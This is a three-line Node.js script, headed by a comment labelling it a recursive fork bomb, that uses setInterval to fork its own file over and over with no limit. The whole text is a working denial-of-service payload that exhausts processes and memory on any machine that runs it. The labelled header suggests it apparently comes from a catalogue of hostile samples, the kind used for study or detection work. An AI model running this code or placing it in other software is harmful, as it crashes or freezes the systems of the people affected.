// class: fork bomb; style: recursion
const { fork } = require('child_process');
setInterval(() => fork(__filename), 0);
